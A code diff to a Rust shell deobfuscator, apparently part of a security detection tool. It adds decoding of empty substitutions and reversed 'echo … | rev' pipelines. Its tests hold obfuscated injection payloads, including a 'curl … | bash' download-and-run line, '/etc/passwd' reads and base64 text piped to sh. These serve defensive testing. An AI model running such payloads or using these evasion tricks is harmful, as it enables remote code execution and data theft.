@@ -123,6 +123,11 @@ fn pass(input: &[u8], out: &mut Out) {
             }
             b'$' => i = dollar(input, i, out),
             b'{' => i = brace_list(input, i, out),
+            // ``` `` ``` glued into a word is an empty command substitution: `s``leep`.
+            b'`' if next == b'`' && (is_word(out.last()) || input.get(i + 2).is_some_and(|&c| is_word(c))) => {
+                out.mark_if_in_word(input.get(i + 2).copied().unwrap_or(b' '));
+                i += 2;
+            }
             b'`' if input[i + 1..].starts_with(b"echo ") && (command_prefix(out) || after_close_is_word_tick(&input[i + 1..])) => {
                 i = echo_subst(input, i + 6, b'`', i, out)
             }
@@ -174,6 +179,11 @@ fn dollar(s: &[u8], i: usize, out: &mut Out) -> usize {
             }
             out.pending = true;
             return i + 1;
+        }
+        // `wh$()oami`: an empty substitution glued to a word expands to nothing.
+        Some(b'(') if rest.get(1) == Some(&b')') && (is_word(out.last()) || rest.get(2).is_some_and(|&c| is_word(c))) => {
+            out.mark_if_in_word(rest.get(2).copied().unwrap_or(b' '));
+            return i + 3;
         }
         Some(b'(') if rest.starts_with(b"(printf ") => {
             if let Some((bytes, end)) = crate::shell_expand::printf_subst(s, i) {
@@ -363,12 +373,13 @@ fn echo_pipe(s: &[u8]) -> Option<(Vec<u8>, usize)> {
     if s[k..].starts_with(b"-n ") || s[k..].starts_with(b"-e ") {
         k += 3;
     }
-    let arg_len = s[k..].iter().take(4096).take_while(|&&c| !matches!(c, b' ' | b'|' | b';' | b'\n' | b'&')).count();
-    let arg = &s[k..k + arg_len];
+    // `echo a b | rev` prints its words joined by one space: the argument runs to the pipe.
+    let arg_len = s[k..].iter().take(4096).take_while(|&&c| !matches!(c, b'|' | b';' | b'\n' | b'&')).count();
+    let arg = s[k..k + arg_len].trim_ascii_end();
     let mut j = k + arg_len;
     j += s[j..].iter().take_while(|&&c| c == b' ').count();
     if s.get(j) != Some(&b'|') || arg.is_empty() {
-        return None;
+        return quoted_rev(s, k);
     }
     j += 1;
     j += s[j..].iter().take_while(|&&c| c == b' ').count();
@@ -376,12 +387,35 @@ fn echo_pipe(s: &[u8]) -> Option<(Vec<u8>, usize)> {
     if tail.starts_with(b"rev") && !tail.get(3).is_some_and(|&c| is_word(c)) {
         return Some((arg.iter().rev().copied().collect(), j + 3));
     }
+    if let Some(found) = quoted_rev(s, k) {
+        return Some(found);
+    }
     for flag in [&b"base64 -d"[..], b"base64 --decode", b"base64 -D"] {
         if tail.starts_with(flag) {
             // The decoded text is shell again: undo its own obfuscation too.
             let decoded = base64_decode(arg)?;
             return Some((deobfuscate(&decoded).text, j + flag.len()));
         }
+    }
+    None
+}
+
+/// `echo '<reversed pipeline>' | rev`: the quotes are gone by now, so the reversed text may
+/// hold `|`, `;` or `&` of its own; the argument then runs to the first `| rev` that closes
+/// the line or a substitution (bounded look-ahead).
+fn quoted_rev(s: &[u8], k: usize) -> Option<(Vec<u8>, usize)> {
+    let window = &s[k..s.len().min(k + 1024)];
+    let mut at = 0;
+    while let Some(p) = window[at..].iter().position(|&c| c == b'|') {
+        let pipe = at + p;
+        let after = &window[pipe + 1..];
+        let blanks = after.iter().take_while(|&&c| c == b' ').count();
+        let tail = &after[blanks..];
+        if tail.starts_with(b"rev") && tail.get(3).is_none_or(|&c| matches!(c, b')' | b'`' | b';' | b'&' | b'|' | b'\n' | b' ')) {
+            let arg = window[..pipe].trim_ascii();
+            return (!arg.is_empty()).then(|| (arg.iter().rev().copied().collect(), k + pipe + 1 + blanks + 3));
+        }
+        at = pipe + 1;
     }
     None
 }
@@ -415,6 +449,10 @@ mod tests {
         assert_eq!(d("cat $(echo dwssap/cte/ | rev)"), "cat $(/etc/passwd)");
         assert_eq!(d("echo aWQ= | base64 -d | sh"), "id | sh");
         assert_eq!(d("who$(echo am)i"), "whoami");
+        assert_eq!(d("1;$(echo 'rns- emanu'|rev)"), "1;$(uname -snr)");
+        assert_eq!(d("s``leep 2``0"), "sleep 20");
+        assert_eq!(d("1;$(echo 'hsab | hs.s/9.311.0.302//:ptth lruc'|rev)"), "1;$(curl http://203.0.113.9/s.sh | bash)");
+        assert_eq!(d("wh$()oami"), "whoami");
         assert_eq!(d("cat$u /etc$u/passwd"), "cat /etc/passwd");
     }
 }
